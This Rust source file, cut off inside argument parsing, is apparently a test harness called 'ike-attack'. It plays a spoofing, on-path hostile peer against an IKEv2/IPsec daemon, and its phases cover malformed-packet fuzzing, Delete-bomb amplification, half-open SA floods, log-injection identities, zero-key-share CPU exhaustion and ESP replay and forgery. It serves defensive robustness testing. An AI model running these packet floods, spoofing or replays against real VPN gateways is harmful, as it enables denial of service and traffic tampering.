//! ike-attack: a hostile peer on the underlay, bounded in count and time, for `tests/hostile_peer.rs` and
//! `tests/restarts.rs`.
//!
//! It sends through one raw IPv4 socket (`IPPROTO_RAW`, so it writes the IP header itself and may use any
//! source address: the peer's own, or thousands of others), and it listens with one `AF_PACKET` socket to every
//! IPv4 packet its interface sees. On a hub-like underlay (a bridge with `ageing_time 0`) that is the traffic
//! between the hosts too: the attacker is on the path, as anyone behind a peer's NAT is. So it can read the
//! victim's answers to requests it sent with the peer's address (COOKIE demands), learn the SPIs of half-open
//! SAs it created, and capture real ESP to replay.
//!
//! Every message is built here byte by byte (not with the `ike` crate: a parser bug must not be able to hide in
//! the attacker too). Everything is deterministic for a given `--seed`.
//!
//! ```text
//! ike-attack --target 198.18.0.1 --peer 198.18.0.2 [--seed N] [--pps P] [--max-secs S]
//!            [--live-spis SPII:SPIR]  the live IKE SA between target and peer (hex), for attacks that must
//!                                     reach an existing SA
//!            [--range-base 198.18.64.0 --range-size 4096]  the other source addresses
//!            PHASE...                 run in order:
//!   malformed      every payload type malformed (lengths, counts, nesting), truncations, bit flips; as
//!                  IKE_SA_INIT from the peer and from the range, and with the live SPIs; to 500 and 4500
//!   amplify:N      N Delete bombs (SPI size 0, 65535 SPIs, 176 payloads in 1,436 bytes) from the peer, N
//!                  more with the live SPIs
//!   jumbo:N        N Delete bombs of 65,507 bytes (IP-fragmented) from the peer
//!   init:N         N valid IKE_SA_INIT requests from the peer's address, fresh SPI and nonce each
//!   init-answer:N  the same, answering every COOKIE demand (creates half-open SAs as an on-path attacker can)
//!   range:N        N valid IKE_SA_INIT requests, each from another address of the range
//!   fragments:N    N IKE fragments (SKF, never completed, total 65535) to every half-open SA learned so far
//!                  and to the live SA
//!   auth-fragments:N  N real IKE initiators from the peer's address (the `ike` crate's, with a PSK that is
//!                  not the mesh's): each completes IKE_SA_INIT and sends every IKE_AUTH fragment (valid ICVs,
//!                  104-byte fragments) but the last
//!   id-inject:N    N real initiators from the peer's address whose IKE_AUTH claims an FQDN identity holding a
//!                  newline, a fake log line (`INJECTED-BY-ATTACKER`) and 1,400 more bytes
//!   garbage:N      N random datagrams to 500 and 4500 from the peer and the range
//!   esp-unknown:N  N ESP packets with random SPIs, in UDP 4500 and raw (protocol 50)
//!   esp-replay:S   capture ESP from peer to target for S seconds, then resend each packet 3 times (replay)
//!                  and 3 forged copies of each (one byte flipped in the sequence number, payload or ICV)
//!   proposals:N    N IKE_SA_INIT requests from the peer's address offering 100 unsupported transforms each,
//!                  answering COOKIE demands: what a daemon that logs refused proposals writes
//!   bad-ke:N       N IKE_SA_INIT requests from the peer's address offering MODP-3072 with a zero key share
//!   spoof-init     one valid IKE_SA_INIT from the peer's address (restarts.rs: the half-open SA it leaves)
//! ```
//!
//! At the end it prints one JSON object: what it sent per phase, and what the target answered (`cookie`: IKE_SA_INIT
//! responses carrying a COOKIE notify, `answer`: responses with a KE payload, i.e. a half-open SA was created,
//! `notify`: other notify types seen, `other`: any other packet from the target to an address it spoofed).
//! Usage errors exit 2.

use std::collections::{BTreeMap, HashMap, HashSet};
use std::mem::MaybeUninit;
use std::net::{Ipv4Addr, SocketAddrV4};
use std::process::ExitCode;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{mpsc, Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use socket2::{Domain, Protocol, SockAddr, Socket, Type};

const IKE_SA_INIT: u8 = 34;
const IKE_AUTH: u8 = 35;
const INFORMATIONAL: u8 = 37;
const FLAG_INITIATOR: u8 = 0x08;
const FLAG_RESPONSE: u8 = 0x20;
const COOKIE: u16 = 16390;

/// Payload type numbers (RFC 7296 3.2, RFC 7383 2.5).
const SA: u8 = 33;
const KE: u8 = 34;
const IDI: u8 = 35;
const IDR: u8 = 36;
const CERT: u8 = 37;
const CERTREQ: u8 = 38;
const AUTH: u8 = 39;
const NONCE: u8 = 40;
const NOTIFY: u8 = 41;
const DELETE: u8 = 42;
const VENDOR: u8 = 43;
const TSI: u8 = 44;
const TSR: u8 = 45;
const SK: u8 = 46;
const CP: u8 = 47;
const EAP: u8 = 48;
const SKF: u8 = 53;

/// A small deterministic generator (xorshift64*): the same seed sends the same bytes.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        let mut x = self.0;
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn bytes(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

/// One generic payload: header (next payload, flags, length) and body. `len` overrides the length field.
fn payload(next: u8, body: &[u8], len: Option<u16>) -> Vec<u8> {
    let mut p = vec![next, 0];
    p.extend_from_slice(&len.unwrap_or((body.len() + 4) as u16).to_be_bytes());
    p.extend_from_slice(body);
    p
}

/// A chain of well-formed payloads: returns (first payload type, bytes).
fn chain(ps: &[(u8, Vec<u8>)]) -> (u8, Vec<u8>) {
    let mut out = Vec::new();
    for (i, (_, body)) in ps.iter().enumerate() {
        let next = ps.get(i + 1).map_or(0, |p| p.0);
        out.extend(payload(next, body, None));
    }
    (ps.first().map_or(0, |p| p.0), out)
}

/// An IKE message: header with the right total length, then `body` (a payload chain starting with `first`).
fn message(spis: (u64, u64), exch: u8, flags: u8, msgid: u32, first: u8, body: &[u8]) -> Vec<u8> {
    let mut m = Vec::with_capacity(28 + body.len());
    m.extend_from_slice(&spis.0.to_be_bytes());
    m.extend_from_slice(&spis.1.to_be_bytes());
    m.extend_from_slice(&[first, 0x20, exch, flags]);
    m.extend_from_slice(&msgid.to_be_bytes());
    m.extend_from_slice(&((28 + body.len()) as u32).to_be_bytes());
    m.extend_from_slice(body);
    m
}

/// The SA payload body of vmsecd's default IKE proposal, aes128gcm16-prfsha256-x25519.
fn ike_sa_body() -> Vec<u8> {
    let transform = |last: bool, ttype: u8, id: u16, attr: &[u8]| {
        let mut t = vec![if last { 0 } else { 3 }, 0];
        t.extend_from_slice(&((8 + attr.len()) as u16).to_be_bytes());
        t.extend_from_slice(&[ttype, 0]);
        t.extend_from_slice(&id.to_be_bytes());
        t.extend_from_slice(attr);
        t
    };
    let mut ts = Vec::new();
    ts.extend(transform(false, 1, 20, &[0x80, 0x0e, 0x00, 0x80])); // ENCR AES-GCM-16, 128-bit key
    ts.extend(transform(false, 2, 5, &[])); // PRF HMAC-SHA2-256
    ts.extend(transform(true, 4, 31, &[])); // DH Curve25519
    let mut p = vec![0, 0];
    p.extend_from_slice(&((8 + ts.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[1, 1, 0, 3]); // proposal 1, IKE, no SPI, 3 transforms
    p.extend(ts);
    p
}

/// An IKE_SA_INIT request body offering aes128gcm16-prfsha256-modp3072 with a MODP-3072 key share of 384 zero
/// bytes: a public value RFC 7296 and SP 800-56A forbid (0), so a responder that validates before its own
/// exponentiation refuses it for free; one that does not spends a 3072-bit modular exponentiation on it.
fn bad_modp_chain(rng: &mut Rng) -> (u8, Vec<u8>) {
    let mut sa = ike_sa_body();
    // The last transform is DH: its ID is the last two bytes (no attributes).
    let n = sa.len();
    sa[n - 2..].copy_from_slice(&15u16.to_be_bytes());
    let mut ke = vec![0, 15, 0, 0];
    ke.extend(std::iter::repeat_n(0u8, 384));
    chain(&[(SA, sa), (KE, ke), (NONCE, rng.bytes(32))])
}

/// A valid IKE_SA_INIT request body (SA, KE, Nonce), optionally preceded by a COOKIE notify.
fn init_chain(rng: &mut Rng, cookie: Option<&[u8]>) -> (u8, Vec<u8>) {
    let mut ke = vec![0, 31, 0, 0];
    ke.extend(rng.bytes(32));
    let mut ps = Vec::new();
    if let Some(c) = cookie {
        ps.push((NOTIFY, notify_body(0, &[], COOKIE, c)));
    }
    ps.push((SA, ike_sa_body()));
    ps.push((KE, ke));
    ps.push((NONCE, rng.bytes(32)));
    chain(&ps)
}

/// An IKE_SA_INIT request body whose one proposal has 100 transforms nobody supports (each a distinct ENCR id
/// with a key length): refused with NO_PROPOSAL_CHOSEN, and a daemon that logs the proposals it refused
/// verbatim writes a long line per datagram.
fn proposals_chain(rng: &mut Rng) -> (u8, Vec<u8>) {
    let mut ts = Vec::new();
    for i in 0..100u16 {
        ts.extend_from_slice(&[if i == 99 { 0 } else { 3 }, 0, 0, 12, 1, 0]);
        ts.extend_from_slice(&(1000 + i + (rng.next() as u16 % 20_000)).to_be_bytes());
        ts.extend_from_slice(&[0x80, 0x0e, 0x01, 0x00]);
    }
    let mut p = vec![0, 0];
    p.extend_from_slice(&((8 + ts.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[1, 1, 0, 100]);
    p.extend(ts);
    let mut ke = vec![0, 31, 0, 0];
    ke.extend(rng.bytes(32));
    chain(&[(SA, p), (KE, ke), (NONCE, rng.bytes(32))])
}

fn notify_body(proto: u8, spi: &[u8], ntype: u16, data: &[u8]) -> Vec<u8> {
    let mut n = vec![proto, spi.len() as u8];
    n.extend_from_slice(&ntype.to_be_bytes());
    n.extend_from_slice(spi);
    n.extend_from_slice(data);
    n
}

/// Malformed payload chains: (case name, first payload type, chain bytes). Every payload type with bad lengths,
/// bad counts and bad nesting, and the chain itself broken.
fn malformed_chains(rng: &mut Rng) -> Vec<(String, u8, Vec<u8>)> {
    let mut v: Vec<(String, u8, Vec<u8>)> = Vec::new();
    let types = [
        SA, KE, IDI, IDR, CERT, CERTREQ, AUTH, NONCE, NOTIFY, DELETE, VENDOR, TSI, TSR, SK, CP,
        EAP, SKF, 49, 50, 128, 255,
    ];
    // Generic: every type with lengths that do not add up, and bodies too short for the fixed part.
    for &t in &types {
        for (what, len, body) in [
            ("len0", Some(0u16), vec![]),
            ("len1", Some(1), vec![]),
            ("len3", Some(3), vec![]),
            ("empty", None, vec![]),
            ("len-past-end", Some(0xffff), vec![0u8; 8]),
            ("len-one-past", Some(13), vec![0u8; 8]),
            ("body1", None, vec![0x01]),
            ("body3", None, vec![0xff; 3]),
            ("body7", None, vec![0xff; 7]),
            ("random200", None, rng.bytes(200)),
        ] {
            v.push((format!("type{t}-{what}"), t, payload(0, &body, len)));
        }
        // Critical bit on an unknown or misplaced type.
        let mut p = payload(0, &rng.bytes(16), None);
        p[1] = 0x80;
        v.push((format!("type{t}-critical"), t, p));
    }
    // Nesting inside the SA payload: proposals, transforms, attributes.
    let sa = |props: &[u8]| (SA, payload(0, props, None));
    let prop = |more: u8, len: u16, num: u8, proto: u8, spi_size: u8, ntrans: u8, rest: &[u8]| {
        let mut p = vec![more, 0];
        p.extend_from_slice(&len.to_be_bytes());
        p.extend_from_slice(&[num, proto, spi_size, ntrans]);
        p.extend_from_slice(rest);
        p
    };
    let good = ike_sa_body();
    let mut sa_cases: Vec<(&str, Vec<u8>)> = vec![
        ("prop-len0", prop(0, 0, 1, 1, 0, 3, &good[8..])),
        ("prop-len-past", prop(0, 0xffff, 1, 1, 0, 3, &good[8..])),
        ("prop-len-short", prop(0, 7, 1, 1, 0, 3, &good[8..])),
        ("prop-255-transforms-none", prop(0, 8, 1, 1, 0, 255, &[])),
        ("prop-spi-size-255", prop(0, 8, 1, 1, 255, 0, &[])),
        (
            "prop-more-but-none",
            prop(2, good.len() as u16, 1, 1, 0, 3, &good[8..]),
        ),
        (
            "prop-proto-0",
            prop(0, good.len() as u16, 1, 0, 0, 3, &good[8..]),
        ),
        (
            "prop-proto-255",
            prop(0, good.len() as u16, 1, 255, 0, 3, &good[8..]),
        ),
        (
            "prop-num-0",
            prop(0, good.len() as u16, 0, 1, 0, 3, &good[8..]),
        ),
    ];
    // Transforms: length 0, past the proposal, attributes (TLV) whose length runs past everything.
    for (name, t) in [
        ("trans-len0", vec![0u8, 0, 0, 0, 1, 0, 0, 20]),
        ("trans-len-past", vec![0, 0, 0xff, 0xff, 1, 0, 0, 20]),
        ("trans-len-short", vec![0, 0, 0, 5, 1, 0, 0, 20]),
        (
            "attr-tlv-past",
            vec![0, 0, 0, 12, 1, 0, 0, 20, 0x00, 0x0e, 0xff, 0xff],
        ),
        (
            "attr-tlv-zero",
            vec![0, 0, 0, 12, 1, 0, 0, 20, 0x00, 0x0e, 0x00, 0x00],
        ),
        ("attr-half", vec![0, 0, 0, 10, 1, 0, 0, 20, 0x80, 0x0e]),
        ("trans-type-0", vec![0, 0, 0, 8, 0, 0, 0, 0]),
        ("trans-type-255", vec![0, 0, 0, 8, 255, 0, 0xff, 0xff]),
    ] {
        let len = (8 + t.len()) as u16;
        sa_cases.push((name, prop(0, len, 1, 1, 0, 1, &t)));
    }
    // Counts: 255 proposals of 40 transforms claimed in a few bytes, many real ones.
    let mut many = Vec::new();
    for i in 0..40u8 {
        let more = if i == 39 { 0 } else { 2 };
        let mut ts = Vec::new();
        for j in 0..30u8 {
            ts.extend_from_slice(&[if j == 29 { 0 } else { 3 }, 0, 0, 8, 1, 0, 0, 12]);
        }
        many.extend(prop(more, (8 + ts.len()) as u16, i + 1, 1, 0, 30, &ts));
    }
    sa_cases.push(("40x30-transforms", many));
    let mut lots = Vec::new();
    for i in 0..200u8 {
        lots.extend(prop(2, 8, i, 1, 0, 0, &[]));
    }
    sa_cases.push(("200-empty-proposals-more", lots));
    for (name, body) in sa_cases {
        let (t, p) = sa(&body);
        v.push((format!("sa-{name}"), t, p));
    }
    // KE: unknown group, no data, too much data.
    for (name, body) in [
        ("ke-group0", vec![0u8, 0, 0, 0]),
        ("ke-x25519-empty", vec![0, 31, 0, 0]),
        ("ke-x25519-short", vec![0, 31, 0, 0, 1]),
        (
            "ke-x25519-1000",
            [vec![0, 31, 0, 0], rng.bytes(1000)].concat(),
        ),
        ("ke-modp2048-1byte", vec![0, 14, 0, 0, 1]),
        (
            "ke-group-ffff",
            [vec![0xff, 0xff, 0, 0], rng.bytes(64)].concat(),
        ),
    ] {
        v.push((name.into(), KE, payload(0, &body, None)));
    }
    // IDs, certificates, AUTH.
    for (name, t, body) in [
        ("id-type0", IDI, vec![0u8, 0, 0, 0]),
        ("id-ipv4-short", IDI, vec![1, 0, 0, 0, 198, 18]),
        ("id-type255", IDR, vec![255, 0, 0, 0, 1, 2, 3]),
        (
            "cert-der-huge-len",
            CERT,
            vec![4, 0x30, 0x84, 0xff, 0xff, 0xff, 0xff, 0x30],
        ),
        (
            "cert-der-nested",
            CERT,
            [vec![4u8], [0x30u8, 0x80].repeat(300)].concat(),
        ),
        ("certreq-odd", CERTREQ, vec![4, 1, 2, 3]),
        ("auth-method0", AUTH, vec![0, 0, 0, 0]),
        ("auth-sig-empty", AUTH, vec![14, 0, 0, 0]),
        ("auth-sig-len-past", AUTH, vec![14, 0, 0, 0, 0xff, 1, 2]),
        ("nonce-300", NONCE, rng.bytes(300)),
        ("nonce-1", NONCE, vec![1]),
        ("vendor-1300", VENDOR, rng.bytes(1300)),
        ("eap-len-past", EAP, vec![1, 1, 0xff, 0xff, 1]),
        ("eap-len0", EAP, vec![1, 1, 0, 0]),
    ] {
        v.push((name.into(), t, payload(0, &body, None)));
    }
    // Notify: SPI sizes that do not fit, cookies of every size, known types with wrong data.
    for (name, body) in [
        (
            "notify-spi255",
            notify_body(0, &[], 16388, &[])
                .iter()
                .enumerate()
                .map(|(i, b)| if i == 1 { 255 } else { *b })
                .collect::<Vec<u8>>(),
        ),
        ("notify-cookie-empty", notify_body(0, &[], COOKIE, &[])),
        (
            "notify-cookie-1000",
            notify_body(0, &[], COOKIE, &rng.bytes(1000)),
        ),
        ("notify-natd-empty", notify_body(0, &[], 16388, &[])),
        ("notify-rekey-spi-missing", vec![3, 4, 0x40, 0x09]),
        (
            "notify-proto255",
            notify_body(255, &[1, 2, 3, 4], 16393, &[]),
        ),
        (
            "notify-frag-data",
            notify_body(0, &[], 16430, &rng.bytes(40)),
        ),
        ("notify-sigalg-odd", notify_body(0, &[], 16431, &[0, 1, 2])),
        ("notify-invalid-ke-empty", notify_body(0, &[], 17, &[])),
        ("notify-error-type-1", notify_body(0, &[], 1, &rng.bytes(8))),
    ] {
        v.push((name.into(), NOTIFY, payload(0, &body, None)));
    }
    // Delete: counts the bytes cannot hold (the amplification), SPI sizes that make no sense.
    for (name, body) in [
        ("delete-spi0-65535", vec![1u8, 0, 0xff, 0xff]),
        ("delete-spi4-65535", vec![3, 4, 0xff, 0xff, 1, 2, 3, 4]),
        ("delete-spi8-1-missing", vec![1, 8, 0, 1]),
        ("delete-spi255-255", vec![3, 255, 0, 255]),
        ("delete-proto0", vec![0, 4, 0, 1, 1, 2, 3, 4]),
        ("delete-spi4-odd", vec![3, 4, 0, 2, 1, 2, 3, 4, 5, 6]),
    ] {
        v.push((name.into(), DELETE, payload(0, &body, None)));
    }
    // Traffic selectors: counts without selectors, selector lengths 0 and past the end, unknown types.
    for (name, body) in [
        ("ts-255-none", vec![255u8, 0, 0, 0]),
        ("ts-sel-len0", vec![1, 0, 0, 0, 7, 0, 0, 0]),
        (
            "ts-sel-len-past",
            vec![1, 0, 0, 0, 7, 0, 0xff, 0xff, 0, 0, 0xff, 0xff],
        ),
        (
            "ts-ipv4-short",
            vec![1, 0, 0, 0, 7, 0, 0, 16, 0, 0, 0xff, 0xff, 1, 2, 3, 4],
        ),
        (
            "ts-ipv6-in-ipv4-len",
            vec![
                1, 0, 0, 0, 8, 0, 0, 16, 0, 0, 0xff, 0xff, 1, 2, 3, 4, 5, 6, 7, 8,
            ],
        ),
        ("ts-type-fc", vec![1, 0, 0, 0, 9, 0, 0, 8, 0, 0, 0, 0]),
        (
            "ts-2-claimed-1-present",
            vec![
                2, 0, 0, 0, 7, 0, 0, 16, 0, 0, 0xff, 0xff, 0, 0, 0, 0, 255, 255, 255, 255,
            ],
        ),
    ] {
        v.push((name.to_string(), TSI, payload(0, &body, None)));
    }
    // Configuration payload: attribute lengths past the end, a thousand empty attributes.
    let mut thousand = vec![1u8, 0, 0, 0];
    for _ in 0..300 {
        thousand.extend_from_slice(&[0, 1, 0, 0]);
    }
    for (name, body) in [
        ("cp-attr-len-past", vec![1u8, 0, 0, 0, 0, 1, 0xff, 0xff]),
        ("cp-type0", vec![0, 0, 0, 0]),
        ("cp-attr-half", vec![1, 0, 0, 0, 0, 1]),
        ("cp-300-empty-attrs", thousand),
    ] {
        v.push((name.into(), CP, payload(0, &body, None)));
    }
    // SK and SKF: too short for IV and ICV, fragment numbers that make no sense.
    for (name, t, body) in [
        ("sk-empty", SK, vec![]),
        ("sk-3", SK, vec![1, 2, 3]),
        ("sk-random", SK, rng.bytes(100)),
        (
            "skf-num0",
            SKF,
            [vec![0u8, 0, 0, 2], rng.bytes(40)].concat(),
        ),
        (
            "skf-total0",
            SKF,
            [vec![0u8, 1, 0, 0], rng.bytes(40)].concat(),
        ),
        (
            "skf-num-past-total",
            SKF,
            [vec![0u8, 9, 0, 2], rng.bytes(40)].concat(),
        ),
        (
            "skf-65535",
            SKF,
            [vec![0xffu8, 0xff, 0xff, 0xff], rng.bytes(40)].concat(),
        ),
        ("skf-no-data", SKF, vec![0, 1, 0, 2]),
    ] {
        v.push((name.into(), t, payload(0, &body, None)));
    }
    // The chain: a last payload that says more follow; 350 empty vendor IDs; an SK that is not last; a
    // payload whose length leaves a partial header behind it.
    v.push((
        "chain-next-after-last".into(),
        VENDOR,
        payload(NONCE, &[1, 2, 3, 4], None),
    ));
    let mut vids = Vec::new();
    for i in 0..350 {
        vids.extend(payload(if i == 349 { 0 } else { VENDOR }, &[], None));
    }
    v.push(("chain-350-vendor-ids".into(), VENDOR, vids));
    let mut sk_not_last = payload(NONCE, &rng.bytes(40), None);
    sk_not_last.extend(payload(0, &rng.bytes(32), None));
    v.push(("chain-sk-not-last".into(), SK, sk_not_last));
    let mut partial = payload(VENDOR, &[1, 2, 3, 4], None);
    partial.extend_from_slice(&[0, 0]);
    v.push(("chain-partial-header".into(), VENDOR, partial));
    // And one valid IKE_SA_INIT among them (it creates a half-open SA, or meets a COOKIE demand).
    let (first, good_init) = init_chain(rng, None);
    v.push(("init-valid".into(), first, good_init.clone()));
    v
}

/// Whole-message malformations of a valid IKE_SA_INIT: header fields, truncation at every byte, random bit
/// flips. Returns complete messages.
fn malformed_messages(rng: &mut Rng, spi_i: u64) -> Vec<(String, Vec<u8>)> {
    let (first, body) = init_chain(rng, None);
    let good = message((spi_i, 0), IKE_SA_INIT, FLAG_INITIATOR, 0, first, &body);
    let mut v = Vec::new();
    let set = |f: &dyn Fn(&mut Vec<u8>)| {
        let mut m = good.clone();
        f(&mut m);
        m
    };
    v.push((
        "hdr-len-small".into(),
        set(&|m| m[24..28].copy_from_slice(&20u32.to_be_bytes())),
    ));
    v.push((
        "hdr-len-0".into(),
        set(&|m| m[24..28].copy_from_slice(&0u32.to_be_bytes())),
    ));
    v.push((
        "hdr-len-max".into(),
        set(&|m| m[24..28].copy_from_slice(&u32::MAX.to_be_bytes())),
    ));
    v.push((
        "hdr-len-less-than-datagram".into(),
        set(&|m| {
            let l = (m.len() - 10) as u32;
            m[24..28].copy_from_slice(&l.to_be_bytes());
        }),
    ));
    v.push((
        "hdr-len-more-than-datagram".into(),
        set(&|m| {
            let l = (m.len() + 10) as u32;
            m[24..28].copy_from_slice(&l.to_be_bytes());
        }),
    ));
    for ver in [0x00u8, 0x10, 0x21, 0x30, 0xf0] {
        v.push((format!("hdr-version-{ver:02x}"), set(&|m| m[17] = ver)));
    }
    for ex in [0u8, 33, 36, 38, 43, 255] {
        v.push((format!("hdr-exchange-{ex}"), set(&|m| m[18] = ex)));
    }
    v.push(("hdr-flags-all".into(), set(&|m| m[19] = 0xff)));
    v.push((
        "hdr-msgid-max".into(),
        set(&|m| m[20..24].copy_from_slice(&u32::MAX.to_be_bytes())),
    ));
    v.push(("hdr-spi-i-zero".into(), set(&|m| m[0..8].fill(0))));
    v.push(("hdr-next-unknown".into(), set(&|m| m[16] = 200)));
    v.push(("hdr-next-none".into(), set(&|m| m[16] = 0)));
    for cut in 0..good.len() {
        v.push((format!("truncated-{cut}"), good[..cut].to_vec()));
    }
    for i in 0..600 {
        let mut m = good.clone();
        for _ in 0..1 + rng.below(4) {
            let at = rng.below(m.len());
            m[at] ^= 1 << rng.below(8);
        }
        // Keep the header's SPIs so the mutation lands in the payloads more often than not.
        if i % 2 == 0 {
            m[..8].copy_from_slice(&spi_i.to_be_bytes());
        }
        v.push((format!("bitflip-{i}"), m));
    }
    v
}

/// What the sniffer saw the target send to addresses the attacker spoofed.
#[derive(Default)]
struct Seen {
    cookie: u64,
    answer: u64,
    notify: BTreeMap<u16, u64>,
    other: u64,
    /// COOKIE demands not yet answered: (initiator SPI, cookie data).
    cookies: Vec<(u64, Vec<u8>)>,
    /// Half-open SAs the target created for us: (initiator SPI, responder SPI).
    half_open: Vec<(u64, u64)>,
    /// Captured ESP in UDP 4500 from the peer to the target (UDP payloads).
    esp: Vec<Vec<u8>>,
    capture_esp: bool,
    /// The initiator SPIs of the IKE_SA_INIT requests this process sent: answers to others (another attacker
    /// process on the same LAN, or the real peer) are not ours to count.
    ours: HashSet<u64>,
    /// While set: every IKE message from the target to the peer's address (port, and the message without the
    /// non-ESP marker), for the `auth-fragments` phase's real initiator.
    feed: Option<mpsc::Sender<(u16, u16, Vec<u8>)>>,
}

/// Parses an IKE message the target sent (non-ESP marker already removed) and records what it says.
fn record_ike(seen: &mut Seen, m: &[u8]) {
    if m.len() < 28 {
        seen.other += 1;
        return;
    }
    let spi_i = u64::from_be_bytes(m[0..8].try_into().unwrap_or_default());
    let spi_r = u64::from_be_bytes(m[8..16].try_into().unwrap_or_default());
    if m[18] != IKE_SA_INIT || m[19] & FLAG_RESPONSE == 0 {
        seen.other += 1;
        return;
    }
    if !seen.ours.contains(&spi_i) {
        return;
    }
    let mut next = m[16];
    let mut off = 28;
    let mut had_ke = false;
    let mut cookie = None;
    while next != 0 && off + 4 <= m.len() {
        let len = u16::from_be_bytes([m[off + 2], m[off + 3]]) as usize;
        if len < 4 || off + len > m.len() {
            break;
        }
        let body = &m[off + 4..off + len];
        if next == KE {
            had_ke = true;
        }
        if next == NOTIFY && body.len() >= 4 {
            let ntype = u16::from_be_bytes([body[2], body[3]]);
            let data = body.get(4 + body[1] as usize..).unwrap_or(&[]);
            if ntype == COOKIE {
                cookie = Some(data.to_vec());
            } else {
                *seen.notify.entry(ntype).or_default() += 1;
            }
        }
        next = m[off];
        off += len;
    }
    if let Some(c) = cookie {
        seen.cookie += 1;
        seen.cookies.push((spi_i, c));
    } else if had_ke {
        seen.answer += 1;
        seen.half_open.push((spi_i, spi_r));
    } else {
        seen.other += 1;
    }
}

/// Reads every IPv4 packet on the attacker's interfaces until `stop`; records what the target sent to the
/// addresses we use (`spoofed`), and ESP from the peer to the target while capturing.
fn sniff(
    sock: Socket,
    target: Ipv4Addr,
    peer: Ipv4Addr,
    seen: Arc<Mutex<Seen>>,
    stop: Arc<AtomicBool>,
) {
    let mut buf = [MaybeUninit::<u8>::uninit(); 70_000];
    while !stop.load(Ordering::Relaxed) {
        let n = match sock.recv(&mut buf) {
            Ok(n) => n,
            Err(_) => continue, // read timeout
        };
        // SAFETY: recv initialised the first n bytes.
        let p: &[u8] = unsafe { std::slice::from_raw_parts(buf.as_ptr().cast::<u8>(), n) };
        if p.len() < 28 || p[0] >> 4 != 4 || p[9] != 17 {
            continue;
        }
        let ihl = ((p[0] & 0x0f) as usize) * 4;
        let src = Ipv4Addr::new(p[12], p[13], p[14], p[15]);
        let dst = Ipv4Addr::new(p[16], p[17], p[18], p[19]);
        let Some(udp) = p.get(ihl..) else { continue };
        if udp.len() < 8 {
            continue;
        }
        let sport = u16::from_be_bytes([udp[0], udp[1]]);
        let dport = u16::from_be_bytes([udp[2], udp[3]]);
        let data = &udp[8..];
        let mut s = seen.lock().unwrap_or_else(|e| e.into_inner());
        if src == target && dst == peer {
            if let Some(f) = &s.feed {
                let m = match sport {
                    4500 if data.len() >= 4 && data[..4] == [0, 0, 0, 0] => Some(&data[4..]),
                    500 => Some(data),
                    _ => None,
                };
                if let Some(m) = m {
                    let _ = f.send((sport, dport, m.to_vec()));
                }
            }
        }
        if src == target && dst != target {
            match sport {
                500 => record_ike(&mut s, data),
                4500 if data.len() >= 4 && data[..4] == [0, 0, 0, 0] => {
                    record_ike(&mut s, &data[4..])
                }
                _ => {}
            }
        } else if s.capture_esp
            && src == peer
            && dst == target
            && sport == 4500
            && dport == 4500
            && data.len() > 8
            && data[..4] != [0, 0, 0, 0]
            && s.esp.len() < 2000
        {
            s.esp.push(data.to_vec());
        }
    }
}

/// The raw sender: writes whole IPv4 packets (any source address), paced to `pps`, within `deadline`.
struct Sender {
    sock: Socket,
    seen: Arc<Mutex<Seen>>,
    pps: u64,
    sent: u64,
    started: Instant,
    deadline: Instant,
    ident: u16,
}

impl Sender {
    /// False once the time budget is spent (then nothing more is sent).
    fn ok(&self) -> bool {
        Instant::now() < self.deadline
    }

    fn pace(&mut self) {
        self.sent += 1;
        let due = self.started + Duration::from_micros(self.sent * 1_000_000 / self.pps.max(1));
        let now = Instant::now();
        if due > now {
            thread::sleep(due - now);
        }
    }

    /// One IPv4 packet of protocol `proto` carrying `l4` (fragmented at 1,480 bytes when bigger).
    fn ip(&mut self, src: Ipv4Addr, dst: Ipv4Addr, proto: u8, l4: &[u8]) -> bool {
        if !self.ok() {
            return false;
        }
        self.ident = self.ident.wrapping_add(1);
        let mut off = 0;
        loop {
            let chunk = (l4.len() - off).min(1480);
            let more = off + chunk < l4.len();
            let mut p = Vec::with_capacity(20 + chunk);
            p.extend_from_slice(&[0x45, 0]);
            p.extend_from_slice(&((20 + chunk) as u16).to_be_bytes());
            p.extend_from_slice(&self.ident.to_be_bytes());
            let frag = ((off / 8) as u16) | if more { 0x2000 } else { 0 };
            p.extend_from_slice(&frag.to_be_bytes());
            p.extend_from_slice(&[64, proto, 0, 0]); // the kernel fills in the checksum
            p.extend_from_slice(&src.octets());
            p.extend_from_slice(&dst.octets());
            p.extend_from_slice(&l4[off..off + chunk]);
            let to = SockAddr::from(SocketAddrV4::new(dst, 0));
            let _ = self.sock.send_to(&p, &to);
            off += chunk;
            if !more {
                break;
            }
        }
        self.pace();
        true
    }

    /// A UDP datagram (checksum 0: none, which IPv4 allows).
    fn udp(&mut self, src: Ipv4Addr, sport: u16, dst: Ipv4Addr, dport: u16, data: &[u8]) -> bool {
        let mut u = Vec::with_capacity(8 + data.len());
        u.extend_from_slice(&sport.to_be_bytes());
        u.extend_from_slice(&dport.to_be_bytes());
        u.extend_from_slice(&((8 + data.len()) as u16).to_be_bytes());
        u.extend_from_slice(&[0, 0]);
        u.extend_from_slice(data);
        self.ip(src, dst, 17, &u)
    }

    /// An IKE message to 500, or to 4500 behind the non-ESP marker.
    fn ike(&mut self, src: Ipv4Addr, dst: Ipv4Addr, natt: bool, m: &[u8]) -> bool {
        if m.len() >= 28 && m[18] == IKE_SA_INIT && m[19] & FLAG_RESPONSE == 0 {
            let spi = u64::from_be_bytes(m[0..8].try_into().unwrap_or_default());
            let mut s = self.seen.lock().unwrap_or_else(|e| e.into_inner());
            if s.ours.len() < 1_000_000 {
                s.ours.insert(spi);
            }
        }
        if natt {
            let mut d = vec![0, 0, 0, 0];
            d.extend_from_slice(m);
            self.udp(src, 4500, dst, 4500, &d)
        } else {
            self.udp(src, 500, dst, 500, m)
        }
    }
}

struct Args {
    target: Ipv4Addr,
    peer: Ipv4Addr,
    seed: u64,
    pps: u64,
    max_secs: u64,
    live: Option<(u64, u64)>,
    range_base: Ipv4Addr,
    range_size: u32,
    phases: Vec<String>,
}

fn parse_args() -> Result<Args, String> {
    let mut a = Args {
        target: Ipv4Addr::UNSPECIFIED,
        peer: Ipv4Addr::UNSPECIFIED,
